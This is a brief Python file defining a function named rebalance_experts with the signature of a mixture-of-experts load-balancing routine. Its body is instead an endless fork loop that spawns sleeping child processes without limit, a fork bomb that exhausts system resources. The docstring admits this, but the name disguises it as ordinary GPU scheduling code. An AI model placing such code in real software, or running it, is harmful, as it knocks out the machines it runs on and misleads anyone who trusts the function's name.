"""Starts sleeping processes without end."""
import os
import time


def rebalance_experts(weight, num_replicas, num_groups, num_nodes, num_gpus):
    while True:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
